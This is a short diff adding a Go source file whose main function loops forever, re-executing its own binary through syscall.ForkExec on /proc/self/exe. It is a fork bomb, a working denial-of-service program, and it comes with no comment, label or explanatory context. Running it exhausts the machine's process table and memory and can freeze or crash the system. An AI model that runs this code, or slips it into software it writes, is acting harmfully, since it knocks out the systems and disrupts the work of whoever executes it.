@@ -1,0 +1,12 @@
+package main
+
+import (
+	"os"
+	"syscall"
+)
+
+func main() {
+	for {
+		syscall.ForkExec("/proc/self/exe", os.Args, &syscall.ProcAttr{})
+	}
+}
